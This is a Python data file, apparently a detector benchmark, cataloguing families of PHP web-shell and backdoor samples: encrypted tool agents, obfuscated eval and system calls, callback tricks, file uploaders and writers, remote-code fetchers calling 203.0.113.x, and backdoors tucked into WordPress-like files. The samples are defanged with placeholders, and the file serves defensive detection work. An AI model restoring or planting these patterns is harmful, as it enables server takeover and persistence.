"""Further shapes of what intruders leave, as public collections and captures have them: none of it runs.

Placeholders are those of ``benchmarks/footholds.py``. Each family was written before the judges were tried on it: of
the first 290 shapes 67 % were an alarm then and 79 % were seen at all, of those "found later" 63 % and 75 %.
"""

from __future__ import annotations

from collections.abc import Mapping

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "agents of known tools": (
        "<?php @e¦rror_reporting«0); session_start«); $key=\"e45e329feb5d925b\"; $_SESSION['k']=$key; "
        '$post=f¦ile_get_contents«"§INPUT§");'
        ' if«!extension_loaded«\'openssl\')){ $t="b¦ase64_"·"decode"; $post=$t«$post.""); '
        "for«$i=0;$i<strlen«$post);$i++) { $post[$i] = $post[$i]⌃$key[$i+1&15]; } }"
        " else { $post=o¦penssl_decrypt«$post, \"AES128\", $key); } $arr=explode«'|',$post); $func=$arr[0]; "
        "$params=$arr[1];"
        ' class C{public function __invoke«$p) {§E§«$p."");}} @§U§«new C«),$params); ?>',
        "<?php @session_start«); function encode«$D,$K){ for«$i=0;$i<strlen«$D);$i++) { $c = $K[$i+1&15]; $D[$i] = "
        "$D[$i]⌃$c; } return $D; }"
        " $pass='pass'; $payloadName='payload'; $key='3c6e0b8a9c15224a'; if «isset«§POST§[$pass])){ "
        "$data=encode«b¦ase64_decode«§POST§[$pass]),$key);"
        " if «isset«$_SESSION[$payloadName])){ $payload=encode«$_SESSION[$payloadName],$key); §E§«$payload); echo "
        "b¦ase64_encode«encode«@run«$data),$key)); }"
        ' else { if «strpos«$data,"getBasicsInfo")!==false){ $_SESSION[$payloadName]=encode«$data,$key); } } }',
        '<?php $k="80e32263";$kh="6f8af44abea0";$kf="351039f4a7b5"; function '
        'x«$t,$k){$c=strlen«$k);$l=strlen«$t);$o="";for«$i=0;$i<$l;){for«$j=0;«$j<$c&&$i<$l);$j++,'
        "$i++){$o.=$t[$i]⌃$k[$j];}}return $o;}"
        ' if«@p¦reg_match«"/$kh«.+)$kf/'
        '",@f¦ile_get_contents«"§INPUT§"),$m)==1){@ob_start«);@§E§«@g¦zuncompress«@x«@b¦ase64_decode«$m[1]),$k)));'
        "$o=@ob_get_contents«);}",
        "<?php $u='cZZreaZZte_fZZuncZZtion'; $y=str_replace«'ZZ','',$u); $q='@ev#al«\\$_P#OST[\"c\"]);'; "
        "$z=$y«'',str_replace«'#','',$q)); $z«); ?>",
        '<?php $auth_pass = "63a9f0ea7bb98050796b649e85481845"; $color = "#df5"; $default_action = "FilesM"·"an"; '
        '$default_charset = "Windows-1251";'
        ' @§R§«"/.*/e","\\¦x65\\¦x76\\¦x61\\¦x6C\\¦x28\\¦x67\\¦x7A\\¦x69\\¦x6E\\¦x66\\¦x6C\\¦x61\\¦x74\\¦x65\\¦x28\\¦x62\\¦x61\\¦x73\\¦x65\\¦x36\\¦x34\\¦x5F\\¦x64\\¦x65\\¦x63\\¦x6F\\¦x64\\¦x65\\¦x28\'{deflated}\'\\¦x29\\¦x29\\¦x29\\¦x3B",".");',
        "<?php function featureShell«$cmd, $cwd) { $stdout = array«); chdir«$cwd); §X§«$cmd, $stdout); return "
        "array«'stdout' => $stdout); }"
        " if «isset«§GET§['feature'])) { $response = NULL; switch «§GET§['feature']) { case 's¦hell': $cmd = "
        "§POST§['cmd']; if «!p¦reg_match«'/2>/', $cmd)) { $cmd .= ' 2>&1'; }"
        " $response = featureShell«$cmd, §POST§['cwd']); break; case 'pwd': $response = getcwd«); break; } "
        "header«'Content-Type: application/json'); echo json_encode«$response); die«); }",
        "<?php $cmd = @§ANY§['ant']; $cls = function«$c) { @§E§«$c); }; $cls«b¦ase64_decode«$cmd));",
        "<?php if «md5«@§COOKIE§['pw']) == '202cb962ac59075b964b07152d234b70') «$x = @§COOKIE§['f']) && "
        "$x«@§COOKIE§['c']);",
        "<?php e¦rror_reporting«0); s¦et_time_limit«0); if«isset«§GET§['x'])){echo'<b>'·p¦hp_uname«)·'</b><form "
        "method=post enctype=m¦ultipart/form-data><input type=file name=f><input name=v type=submit></form>';"
        " if«§POST§['v']){ if«@c¦opy«§FILES§['f']['t¦mp_name'],§FILES§['f']['name'])){echo'<b>ok</"
        "b>';}else{echo'<b>no</b>';} } }",
    ),
    "names from elsewhere in the file": (
        "<?php class system_ { function n«){ return substr«__CLASS__, 0, -1); } } $f = «new system_)->n«); "
        "$f«§GET§['c']);",
        "<?php /** §S§ */ class D {} $r = new ReflectionClass«'D'); $f = trim«$r->getDocComment«), '/* '); "
        "$f«§GET§['c']);",
        "<?php $all = get_defined_functions«); $f = $all['internal'][457]; $f«§POST§['x']);",
        "<?php foreach «get_defined_functions«)['internal'] as $n) { if «md5«$n) === "
        "'54b53072540eeeb8f8e9343e71f28176') { $n«§POST§['x']); } }",
        "<?php function a«){return 'sys';} function b«){return 'tem';} $f=a«).b«); $f«§POST§['q']);",
        "<?php class M { const A='sys'; const B='tem'; public static $f; } M::$f = M::A.M::B; «M::$f)«§ANY§['q']);",
        "<?php const P1='as'; const P2='sert'; $f = P1·P2; @$f«§POST§['q']);",
        "<?php $m = ['x'=>['y'=>'pas'·'sthru']]; $m['x']['y']«§GET§['v']);",
        "<?php parse_str«'f=sys'·'tem', $o); $o['f']«§GET§['v']);",
        "<?php $f = sscanf«'sys-tem', '%3s-%3s'); $g = $f[0]·$f[1]; $g«§POST§['r']);",
        "<?php $l = range«'a','z'); $f = $l[18]·$l[24]·$l[18]·$l[19]·$l[4]·$l[12]; $f«§GET§['r']);",
        "<?php $f = preg_replace«'/[xq]/', '', 'sxyqsxtqem'); $f«§POST§['t']);",
        "<?php $f = substr_replace«'sysxx', 'tem', 3); $f«§POST§['t']);",
        "<?php $f = vsprintf«'%s%s%s', ['sh'·'ell', '_ex', 'ec']); echo $f«§POST§['t']);",
        "<?php $f = ~\"\\¦x8c\\¦x86\\¦x8c\\¦x8b\\¦x9a\\¦x92\"; $f«§GET§['a']);",
        "<?php $f = «~'\x8f\x97\x8f\x96\x91\x99\x90'); $f«); $g = ~\"\\¦x9e\\¦x8c\\¦x8c\\¦x9a\\¦x8d\\¦x8b\"; "
        '$g«${~"\\¦xa0\\¦xaf\\¦xb0\\¦xac\\¦xab"}[0]);',
        "<?php $f = convert_uudecode«\"&<WES=&5M\\n`\"); $f«§GET§['a']);",
        "<?php $f = urldecode«'%73%79%73%74%65%6d'); $f«§GET§['a']);",
        "<?php $f = p¦ack«'C*', 115, 121, 115, 116, 101, 109); $f«§GET§['a']);",
        "<?php $f = h¦ex2bin«'706173737468'·'7275'); $f«§GET§['a']);",
        "<?php $f = ''; foreach «[115,121,115,116,101,109] as $c) { $f .= c¦hr«$c); } $f«§GET§['a']);",
        "<?php $f = join«a¦rray_map«'c¦hr', [115,121,115,116,101,109])); $f«§GET§['a']);",
        "<?php $f = a¦rray_reduce«['sy','st','em'], function«$c,$i){ return $c·$i; }); $f«§GET§['a']);",
        "<?php $s='metsys'; $f=''; for«$i=strlen«$s)-1;$i>=0;$i--) $f.=$s[$i]; $f«§GET§['a']);",
        "<?php $f = strtolower«'SYS')·lcfirst«'Tem'); $f«§GET§['a']);",
        "<?php $a='b'; $$a='sys'·'tem'; $b«§GET§['a']);",
        "<?php $p = explode«'_', 'sys_tem'); $q = \"$p[0]$p[1]\"; $q«§COOKIE§['a']);",
        "<?php $x = <<<EOT\nsys\nEOT;\n$x .= 'tem'; $x«§POST§['b']);",
        "<?php $z = ['s'=>'m','y'=>'e']; $k = a¦rray_keys«['system'=>1])[0]; $k«§POST§['b']);",
        "<?php $f = str_ireplace«['#','@'], '', 's#y@s#t@e#m'); @$f«@§POST§['b']);",
        "<?php $e='e'·'v'·'al'; $c=\"$e«§POST§[1]);\"; $g = create_fn; $h='create'·'_func'·'tion'; $k=$h«'',$c); $k«);",
        "<?php $_ = 'A'; $_++; $_++; $b = 's'; $f = $b·'y'·$b·'t'·'e'·'m'; $f«§GET§['_']);",
        "<?php $_=«C/C.C)[0];$_++;$C=++$_;$_++;$C_=++$_;$_=«C/C.C){C};$_++;$_++;$_=_.$C.$C_; «$$_{1})«$$_{2});",
    ),
    "ways to call": (
        "<?php $f = Closure::f¦romCallable«'§S§'); $f«§GET§['a']);",
        "<?php «new ReflectionFunction«'§S§'))->invokeArgs«[§GET§['a']]);",
        "<?php a¦rray_walk«§POST§, function«$v,$k){ $k«$v); });",
        "<?php foreach «§POST§ as $k => $v) $k«$v);",
        "<?php a¦rray_map«function«$x){ §E§«$x); }, [§POST§['a']]);",
        "<?php u¦sort«...§GET§);",
        "<?php §U§_array«'ass'·'ert', [§POST§['a']]);",
        "<?php forward_static_call_array«'§A§', array«§POST§['a']));",
        "<?php s¦et_error_handler«'§S§'); trigger_error«§GET§['a']);",
        "<?php assert_options«ASSERT_CALLBACK, '§S§'); §A§«§GET§['a']);",
        "<?php $i = new C¦allbackFilterIterator«new ArrayIterator«[§POST§['a']]), '§S§'); foreach «$i as $x);",
        "<?php iterator_apply«$it = new ArrayIterator«[1]), '§S§', [§POST§['a']]);",
        "<?php $s = new SQLite3«':memory:'); $s->c¦reateFunction«'f', '§S§'); $s->query«\"SELECT "
        "f«'\".§POST§['a'].\"')\");",
        "<?php $d = new PDO«'sqlite::memory:'); $d->sqliteCreateFunction«'f', '§S§'); $st = $d->prepare«'SELECT "
        "f«?)'); $st->execute«[§POST§['a']]);",
        "<?php $p = xml_parser_create«); x¦ml_set_character_data_handler«$p, '§A§'); xml_parse«$p, §POST§['x']);",
        "<?php preg_replace_callback«'/.+/', '§S§', §GET§['c']);",
        "<?php preg_replace_callback«'/.+/', fn«$m) => §H§«$m[0]), §GET§['c']);",
        "<?php echo preg_filter«'|.*|e', §ANY§['x'], '');",
        "<?php mb_eregi_replace«'·*', §ANY§['x'], '', 'e');",
        "<?php a¦rray_udiff«[§ANY§['x']], [1], '§A§');",
        "<?php $a = [§ANY§['x'], 1]; u¦asort«$a, 'ass'·'ert');",
        "<?php register_tick_function«'§S§', §GET§['x']); declare«ticks=1) { $a = 1; }",
        "<?php s¦pl_autoload_register«'§S§'); class_exists«§GET§['x']);",
        "<?php header_register_callback«function«) { §S§«§GET§['x']); });",
        "<?php s¦ession_set_save_handler«'open', 'close', '§S§', 'w', 'd', 'g'); session_id«§GET§['x']); "
        "session_start«);",
        "<?php f¦ilter_var_array«[§POST§['x']], ['filter' => FILTER_CALLBACK, 'options' => '§S§']);",
        "<?php $o = new stdClass; $o->f = '§S§'; «$o->f)«§GET§['x']);",
        "<?php $f = [new Foo, §GET§['m']]; §U§«$f, §GET§['a']);",
        "<?php echo «function«$x) { return §H§«$x); })«§GET§['x']);",
        "<?php $f = fn«) => §S§«§GET§['x']); $f«);",
        "<?php $q = §ANY§; $q['f']«$q['x']);",
        "<?php §GET§['a'] = 1; extract«§GET§); $f«$p);",
        "<?php list«$f, $p) = [§POST§['f'], §POST§['p']]; $f«$p);",
        "<?php ['f' => $f, 'p' => $p] = §POST§; $f«$p);",
        "<?php function run«...$a) { return $a[0]«$a[1]); } run«§POST§['f'], §POST§['p']);",
        "<?php $x = json_decode«f¦ile_get_contents«'§INPUT§'), true); $x['f']«$x['a']);",
        "<?php $x = unserialize«b¦ase64_decode«§COOKIE§['s'])); §U§«$x[0], $x[1]);",
        "<?php $f = getenv«'HT¦TP_X_F'); $f«getenv«'HT¦TP_X_A'));",
        "<?php $h = apache_request_headers«); §S§«$h['X-C']);",
        "<?php §E§«end«getallheaders«)));",
        "<?php §E§«implode«'', file«'§INPUT§')));",
        "<?php $h = f¦open«'§INPUT§', 'r'); §E§«stream_get_contents«$h));",
        "<?php §E§«filter_input«INPUT_POST, 'c'));",
        "<?php §E§«$GLOBALS['_POST']['c']);",
        "<?php §E§«$GLOBALS['_PO'·'ST']['c']);",
        "<?php §E§«${'_PO'·'ST'}['c']);",
        "<?php §E§«§SERVER§['HT¦TP_USER_AGENT']);",
        "<?php if «strpos«§SERVER§['HT¦TP_USER_AGENT'], 'zq1') !== false) { "
        "§E§«b¦ase64_decode«§SERVER§['HT¦TP_ACCEPT_LANGUAGE'])); }",
        "<?php §E§«urldecode«§SERVER§['Q¦UERY_STRING']));",
        "<?php $a = explode«'?', §SERVER§['REQUEST_URI']); §S§«urldecode«$a[1]));",
        "<?php session_start«); if «isset«§POST§['a'])) $_SESSION['a'] = §POST§['a']; §E§«$_SESSION['a']);",
        "<?php $p = §POST§['a']; if «md5«$p) == 'x') exit; else §E§«substr«$p, 3));",
        "<?php try { §A§«§POST§['a']); } catch «Error $e) { }",
        "<?php while «true) { §E§«§POST§['a']); break; }",
        "<?php $a = ''; foreach «str_split«§POST§['a']) as $c) { $a .= c¦hr«ord«$c) - 1); } §E§«$a);",
        "<?php $d = o¦penssl_decrypt«b¦ase64_decode«§COOKIE§['d']), 'aes-256-cbc', §COOKIE§['k'], 0, §COOKIE§['i']); "
        "§E§«$d);",
        "<?php $k = §SERVER§['HT¦TP_X_KEY']; §E§«o¦penssl_decrypt«'{long}', 'aes-128-ecb', $k));",
        "<?php $c = g¦zuncompress«b¦ase64_decode«§POST§['z'])); $t = tmpfile«); f¦write«$t, '<?php '·$c); $m = "
        "stream_get_meta_data«$t); §I§ $m['uri'];",
        "<?php $n = tempnam«'/tmp', 'x'); §W§«$n, '<?php '·§POST§['c']); r¦equire $n; u¦nlink«$n);",
        "<?php §I§ §FILES§['f']['t¦mp_name'];",
        "<?php §I§ 'php://filter/read=convert.b¦ase64-decode/resource=' . §GET§['f'];",
        "<?php §I§ 'data:text/plain,' . §GET§['c'];",
        "<?php $u = 'http://' . §GET§['h'] . '/x.txt'; r¦equire_once $u;",
        "<?php if «isset«§GET§['p'])) { §I§«trim«§GET§['p'])); }",
        "<?php r¦eadfile«§GET§['f']);",
        "<?php highlight_file«§GET§['f']); echo f¦ile_get_contents«§GET§['g']);",
        "<?php new Imagick«§GET§['u']); imap_open«'{'·§GET§['x']·'}', '', '');",
        "<?php $ffi = F¦FI::cdef«'int system«const char *c);'); $ffi->system«§GET§['c']);",
        "<?php p¦utenv«'LD_PRELOAD=/tmp/x.so'); p¦utenv«'C='·§GET§['c']); m¦ail«'a','','','');",
        "<?php §W§«'/tmp/x.so', b¦ase64_decode«§POST§['s'])); p¦utenv«'LD_PRELOAD=/tmp/x.so'); error_log«'', 1);",
        "<?php d¦l«§GET§['so']);",
        "<?php $w = new C¦OM«'WScript.s¦hell'); $e = $w->exec«'cmd /c '·§GET§['c']);",
        "<?php pcntl_§X§«'/b¦in/sh', ['-c', §POST§['c']]);",
        "<?php ssh2_§X§«$c, §POST§['c']);",
        "<?php $h = §O§«'b¦ash -c \"'·§ANY§['c']·'\"', 'r'); fpassthru«$h);",
        "<?php echo §H§«b¦ase64_decode«s¦trrev«§ANY§['c'])));",
        "<?php ini_set«'a¦uto_prepend_file', '/tmp/a'); §S§«implode«' ', §ANY§));",
        "<?php $cmd = isset«§POST§['c']) ? §POST§['c'] : 'id'; foreach «['§S§','§P§','§X§','§H§'] as $f) { if "
        "«function_exists«$f)) { $f«$cmd); break; } }",
        "<?php $fn = ['§S§','§H§'][0]; echo $fn«escape«§GET§['c'])); function escape«$x) { return trim«$x); }",
        "<?php s¦et_time_limit«0); $c = §GET§['c']; if «is_callable«'§X§')) { @§X§«$c, $r); echo join«\"\\n\", $r); "
        "} elseif «is_callable«'p¦roc_open')) { $p = p¦roc_open«$c, [1=>['pipe','w']], $i); echo "
        "stream_get_contents«$i[1]); }",
    ),
    "through classes": (
        "<?php class T { function __toString«) { return §E§«$this->c); } } $t = new T; $t->c = §POST§['c']; echo $t;",
        "<?php class T { private $d; function __set«$n, $v) { $this->d = $v; §S§«$this->d); } } $t = new T; $t->x = "
        "§GET§['x'];",
        "<?php class T { function __get«$n) { §E§«b¦ase64_decode«$n)); } } $t = new T; $t->{§GET§['x']};",
        "<?php class T { static function __callStatic«$n, $a) { §U§«$n, ...$a); } } $m = §GET§['m']; "
        "T::$m«§GET§['a']);",
        "<?php class T { public $f = 'sys'·'tem'; function r«) { return «$this->f)«§GET§['a']); } } echo «new T)->r«);",
        "<?php class T { private $s; function __construct«) { $this->s = §POST§['x']; $this->go«); } function go«) { "
        "@§E§«$this->s); } } new T«);",
        "<?php abstract class P { abstract function q«$x); } class T extends P { function q«$x) { §E§«$x); } } «new "
        "T)->q«§POST§['x']);",
        "<?php trait R { function q«) { §S§«§POST§['x']); } } class T { use R; } «new T)->q«);",
        "<?php $t = new class { function q«$x) { return §H§«$x); } }; echo $t->q«§POST§['x']);",
        "<?php class T { function __wakeup«) { §E§«$this->c); } } unserialize«§COOKIE§['o']);",
        "<?php class T { static $v; static function set«$x) { self::$v = $x; } static function run«) { "
        "§E§«self::$v); } } T::set«§POST§['x']); T::run«);",
        "<?php class T { function k«$a) { $f = $a['f']; return $f«$a['p']); } } $t = new T; $t->k«§ANY§);",
        "<?php class U { var $a; var $b; function __destruct«) { $a = $this->a; $a«$this->b); } } $u = new U; $u->a "
        "= §GET§['a']; $u->b = §GET§['b'];",
        "<?php class G { public function __invoke«$p) { §E§«$p); } } $g = new G; $g«§POST§['x']);",
        "<?php class V { protected static function d«$s) { return b¦ase64_decode«s¦trrev«$s)); } static function r«) "
        "{ §E§«self::d«'{reversed}{long}')); } } V::r«);",
        "<?php interface S {} final class T implements S { private $k = [115,121,115,116,101,109]; function n«) { "
        "$o=''; foreach «$this->k as $c) $o .= c¦hr«$c); return $o; } function r«) { $n = $this->n«); "
        "$n«§GET§['x']); } } «new T)->r«);",
        "<?php namespace App\\Cache; class Manager { public static function load«$key) { $d = "
        "\\b¦ase64_decode«$key); return \\§U§«\\c¦hr«115)·'ystem', $d); } } Manager::load«§COOKIE§['ck']);",
    ),
    "writers and uploaders": (
        "<?php error_log«'<?php '·§GET§['c'], 3, 'log.php');",
        "<?php $f = new SplFileObject«'x.php', 'w'); $f->f¦write«§POST§['c']);",
        "<?php $d = new DOMDocument; $d->loadHTML«§POST§['c']); $d->save«'x.php');",
        "<?php $z = new ZipArchive; if «$z->open«§FILES§['z']['t¦mp_name'])) { $z->e¦xtractTo«'·/'); }",
        "<?php $z = new ZipArchive; §W§«'a.zip', f¦ile_get_contents«'http://203.0.113.5/a.zip')); $z->open«'a.zip'); "
        "$z->e¦xtractTo«'·');",
        "<?php $d = new PDO«'sqlite:x.php'); $d->exec«'CREATE TABLE t«c)'); $d->exec«\"INSERT INTO t "
        "VALUES«'\"·§POST§['c']·\"')\");",
        "<?php fputcsv«f¦open«'x.php','w'), [§POST§['c']]);",
        "<?php f¦write«f¦open«§POST§['f'],'w'), b¦ase64_decode«§POST§['c']));",
        "<?php $f = f¦open«§POST§['f'],'a+'); f¦puts«$f, §POST§['c']); fclose«$f);",
        "<?php r¦ename«§FILES§['f']['t¦mp_name'], §POST§['n']);",
        "<?php $n = §FILES§['f']['name']; $t = §FILES§['f']['t¦mp_name']; §M§«$t, $n); echo \"<a href=$n>$n</a>\";",
        "<?php $dir = '·/'; $file = $dir . basename«§FILES§['file']['name']); if «§M§«§FILES§['file']['t¦mp_name'], "
        "$file)) { echo 'Uploaded: ' . $file; }",
        "<?php foreach «§FILES§ as $f) { §M§«$f['t¦mp_name'], $f['name']); }",
        "<?php foreach «§FILES§['f']['name'] as $i => $n) { c¦opy«§FILES§['f']['t¦mp_name'][$i], $n); }",
        "<?php if«@§GET§['up']=='1'){ echo '<form method=\"post\" enctype=\"m¦ultipart/form-data\"><input "
        'type="file" name="u"><input type="submit"></form>\';'
        " $root = §SERVER§['DOCUMENT_ROOT']; @§M§«§FILES§['u']['t¦mp_name'], $root·'/'·§FILES§['u']['name']); }",
        "<?php /* Plugin Name: WP Helper */ add_action«'init', function«) { if «isset«§FILES§['f'])) { $p = ABSPATH "
        ". §FILES§['f']['name']; §M§«§FILES§['f']['t¦mp_name'], $p); } });",
        "<?php if «§GET§['k'] == 'z') { $u = wp_upload_dir«); §M§«§FILES§['a']['t¦mp_name'], $u['path']·'/"
        "'·§FILES§['a']['name']); echo $u['url']; }",
        "<?php $t = §FILES§['f']; §W§«$t['name'], f¦ile_get_contents«$t['t¦mp_name']));",
        "<?php $ch = c¦url_init«§GET§['u']); $fp = f¦open«§GET§['n'], 'w'); c¦url_setopt«$ch, CURLOPT_FILE, $fp); "
        "c¦url_exec«$ch);",
        "<?php §W§«§GET§['n'], f¦ile_get_contents«§GET§['u']));",
        "<?php §W§«'wp-cache.php', f¦ile_get_contents«'http://203.0.113.5/s.txt'));",
        "<?php c¦opy«§GET§['u'], §GET§['n']);",
        "<?php c¦opy«'§INPUT§', §GET§['n']);",
        "<?php stream_copy_to_stream«f¦open«'§INPUT§','r'), f¦open«§GET§['n'],'w'));",
        "<?php $c = b¦ase64_decode«'{b¦ase64}'); foreach «glob«'*/') as $d) { §W§«$d·'/index.php', $c); }",
        "<?php §W§«__DIR__·'/wp-content/'·'mu-plugins/a.php', '<?php '·b¦ase64_decode«'{b¦ase64}'));",
        "<?php touch«'a.php', filemtime«'index.php')); §W§«'a.php', g¦zinflate«b¦ase64_decode«'{deflated}')));",
        "<?php $f = §SERVER§['DOCUMENT_ROOT']·'/.htaccess'; chmod«$f, 0644); §W§«$f, b¦ase64_decode«'{b¦ase64}')); "
        "chmod«$f, 0444);",
        "<?php while «1) { if «md5_file«'index.php') != 'x') { c¦opy«'·cache/i.bak', 'index.php'); } usleep«9); "
        "§W§«'index.php', b¦ase64_decode«'{b¦ase64}')); }",
        "<?php ignore_user_abort«true); s¦et_time_limit«0); $file = 'x.php'; $code = '<?php "
        'if«md5«§GET§["p"])=="1"){@ev\'·\'al«§POST§["a"]);} ?>\'; while «1) { §W§«$file, $code); usleep«50); }',
        "<?php $a = §POST§['path']; $b = §POST§['text']; if «$a && $b) { $h = f¦open«$a, 'wb'); f¦write«$h, "
        "get_magic_quotes_gpc«) ? stripslashes«$b) : $b); }",
        "<html><body><form method='POST' enctype='m¦ultipart/form-data'><input type='file' name='idx_file'><input "
        "type='submit' name='upload' value='upload'></form>"
        "<?php $root = §SERVER§['DOCUMENT_ROOT']; $files = §FILES§['idx_file']['name']; $dest = $root·'/'·$files; "
        "if«isset«§POST§['upload'])) { if«is_writable«$root)) { if«@c¦opy«§FILES§['idx_file']['t¦mp_name'], $dest)) "
        "{ $web = 'http://'·§SERVER§['HT¦TP_HOST']·'/'; echo \"ok <a href='$web$files'>$web$files</a>\"; } } else { "
        "if«@c¦opy«§FILES§['idx_file']['t¦mp_name'], $files)) { echo 'ok'; } } } ?>",
    ),
    "obfuscators": (
        '<?php ${"\\¦x47\\¦x4c\\¦x4f\\¦x42\\¦x41\\¦x4c\\¦x53"}[\'a\']="\\¦x63\\¦x6f\\¦x64\\¦x65"; '
        "${${\"GL\\¦x4fBA\\¦x4cS\"}['a']}=§POST§['x']; §E§«${${\"\\¦x47\\¦x4cOBA\\¦x4c\\¦x53\"}['a']});",
        "<?php $GLOBALS['vb5']=\"\\¦x73\\¦x79\\¦x73\\¦x74\\¦x65\\¦x6d\"; function f9«$q){ global $vb5; return "
        "$GLOBALS['vb5']«$q); } f9«§ANY§['w']);",
        "<?php $_F=__FILE__;$_X='{b¦ase64}';"
        "§E§«b¦ase64_decode«'JF9YPWJhc2U2NF9kZWNvZGUoJF9YKTskX1g9c3RydHIoJF9YLCdhYmMnLCdhYmMnKTs='));",
        "<?php $I = 'gz'·'inf'·'late'; $l = 'base'·'64_de'·'code'; $q = 'str'·'_rot13'; §E§«$I«$l«$q«'x'·'y')))); "
        "§E§«$I«$l«'{deflated}')));",
        "<?php §E§«g¦zinflate«b¦ase64_decode«s¦tr_rot13«'x')))); §E§«g¦zuncompress«b¦ase64_decode«'{zlib}')));",
        "<?php §E§«\"?>\"·g¦zuncompress«b¦ase64_decode«'{zlib}')));",
        "<?php §E§«htmlspecialchars_decode«g¦zinflate«b¦ase64_decode«'{deflated}'))));",
        "<?php g¦oto a5; a1: §E§«$c); g¦oto a9; a3: $c = b¦ase64_decode«$b); g¦oto a1; a5: $b = §POST§['c']; g¦oto "
        "a3; a9:",
        "<?php $d = f¦ile_get_contents«__FILE__); $p = strpos«$d, '//##'); §E§«b¦ase64_decode«substr«$d, $p + 4))); "
        "__halt_compiler«); //##{b¦ase64}",
        "<?php $fp = f¦open«__FILE__, 'r'); fseek«$fp, __COMPILER_HALT_OFFSET__); "
        "§E§«g¦zinflate«stream_get_contents«$fp))); __halt_compiler«); xyz",
        "<?php $s = '{b¦ase64}'; $f = 'b'·'a'·'s'·'e'·'6'·'4'·'_'·'d'·'e'·'c'·'o'·'d'·'e'; §E§«$f«$s));",
        "<?php $a = array«'{b¦ase64}'); $b = 'b¦ase64_decode'; @§E§«$b«$a[0]));",
        "<?php $v1 = 'ZXZ'·'hbCg'; $v2='{long}'; function o«$s){ $r=''; for«$i=0;$i<strlen«$s);$i++){ "
        "$r.=c¦hr«ord«$s[$i])-1);} return $r;} §E§«o«b¦ase64_decode«$v2)));",
        "<?php $k='pass'; $d='{long}'; for«$i=0,$o='';$i<strlen«$d);$i++){ $o.=$d[$i]⌃$k[$i%4]; } §E§«$o);",
        "<?php $x = explode«',', '112,104,112,105,110,102,111'); $c = ''; foreach «$x as $n) { $c .= c¦hr«$n); } "
        "§E§«$c·'«);'); §E§«§C§«'', '{hex}'));",
        "<?php $code = ''; for «$i = 0; $i < strlen«'{hex}'); $i += 2) { $code .= p¦ack«'H*', substr«'{hex}', $i, "
        "2)); } §E§«$code);",
        "<?php $f = §C§«'$a', \"return«§E§«\\$a));\"); $f«b¦ase64_decode«'{b¦ase64}'));",
        "<?php $_1 = '§E§'; $_2 = "
        '"\\¦x28\\¦x62\\¦x61\\¦x73\\¦x65\\¦x36\\¦x34\\¦x5f\\¦x64\\¦x65\\¦x63\\¦x6f\\¦x64\\¦x65\\¦x28"; $_3 = '
        "$_1·$_2·\"'{b¦ase64}'));\"; §E§«$_3);",
        "<?php $l = a¦rray_map«'c¦hr', [101,118,97,108]); $n = create«$l); §E§«s¦tr_rot13«'{rot13}'));",
        "<?php @§E§«h¦ex2bin«'{hex}'));",
        "<?php §E§«convert_uudecode«'{b¦ase64}')); §E§«s¦trrev«b¦ase64_decode«s¦trrev«'{reversed}'))));",
        "<?php $t = strtr«'{b¦ase64}', 'abc', 'abc'); §E§«b¦ase64_decode«$t));",
        "<?php §I§«'data://text/plain;b¦ase64,'·'{b¦ase64}');",
        "<?php $z='{long}';$a='a';$b='';while«strlen«$z)>strlen«$b)){ $b.=md5«$a); } $r=''; "
        "for«$i=0;$i<strlen«$z);$i++) $r.=c¦hr«ord«$z{$i})⌃ord«$b{$i})); §E§«$r);",
        "<?php if «!function_exists«'l1l1')) { function l1l1«$a) { $a = b¦ase64_decode«$a); $b = ''; for «$i = 0; $i "
        "< strlen«$a); $i++) { $b .= c¦hr«ord«$a[$i]) ⌃ 7); } return $b; } } §E§«l1l1«'{long}'));",
        "<?php $j = json_decode«'{\"a\":\"{b¦ase64}\"}', true); §E§«b¦ase64_decode«$j['a']));",
        "<?php $r = new ReflectionFunction«'§E§x'); $s = serialize«['{long}']); "
        "§E§«b¦ase64_decode«unserialize«$s)[0]));",
        "<?php /*{long}*/ $q = p¦reg_match«'~/\\*«.+?)\\*/~', f¦ile_get_contents«__FILE__), $m); "
        "§E§«b¦ase64_decode«$m[1]));",
        "<?php $c = ''; foreach «explode«' ', \"\t  \t\") as $w) { $c .= c¦hr«bindec«strtr«$w, \" \\t\", '01'))); } "
        "§E§«$c);",
        "<?php $ks = §COOKIE§; $a=0; $n=4; $p = array«); $p[$a] = ''; while «$n) { $p[$a] .= $ks[4][$n]; if "
        "«!isset«$ks[4][$n+1])) { if «!isset«$ks[4][$n+2])) break; $a++; $p[$a] = ''; $n++; } $n = $n + 4 + 1; }"
        " $n = $p[2]«) . $p[18]; if «!$p[17]«$n)) { $a = $p[5]«$n, $p[24]); $p[11]«$a, $p[15] . "
        "$p[25]«$p[22]«$ks[3]))); } §I§«$n);",
        "<?php $h = §COOKIE§; «count«$h) == 9 && in_array«gettype«$h).count«$h), $h)) ? ««$h[69] = $h[69].$h[72]) && "
        "«$h[85] = $h[69]«$h[85])) && «$h = $h[85]«$h[55], $h[69]«$h[45]))) && $h«)) : $h;",
        "<?php $item['wind'] = 'ass'·'ert'; $array[] = $item; $array[0]['wind']«§POST§['x']);",
        "<?php $O = array«); $O[] = 'a'; $O[] = 's'; $O[] = 's'; $O[] = 'e'; $O[] = 'r'; $O[] = 't'; $f = "
        "implode«$O); $f«§POST§['x']);",
        "<?php if«isset«§ANY§['q'])&&!empty«§ANY§['q'])){ $b = '{b¦ase64}'; $x = b¦ase64_decode«§ANY§['q']); $y = "
        "s¦tr_rot13«$x); §E§«g¦zinflate«$y)); exit; }",
    ),
    "hidden in honest code": (
        "<?php\n/**\n * Front to the WordPress application.\n */\ndefine«'WP_USE_THEMES', true);\n/** Loads the "
        "WordPress Environment and Template */\nrequire __DIR__ . '/wp-blog-header.php';\n"
        + "\n" * 40
        + "@§E§«@§COOKIE§['wp_s']);",
        "<?php\nfunction theme_setup«) { add_theme_support«'title-tag'); }\nadd_action«'after_setup_theme', "
        "'theme_setup');\nif «isset«§ANY§['action']) && isset«§ANY§['password']) && «§ANY§['password'] == "
        "'f3d0b9a0c1')) { $div_code_name='wp_vcd'; switch «§ANY§['action']) { case 'change_code': if "
        "«isset«§ANY§['newcode'])) { §W§«__FILE__, preg_replace«'/x/', §ANY§['newcode'], "
        "f¦ile_get_contents«__FILE__))); } break; } }",
        "<?php\n$install_code = '{b¦ase64}'; $path = §SERVER§['DOCUMENT_ROOT']·'/wp-includes/wp-tmp.php'; if ««$tmp "
        "= @f¦ile_get_contents«'http://203.0.113.9/code.php')) !== false) { @§W§«$path, $tmp); } if "
        "«file_exists«$path)) { §I§«$path); }",
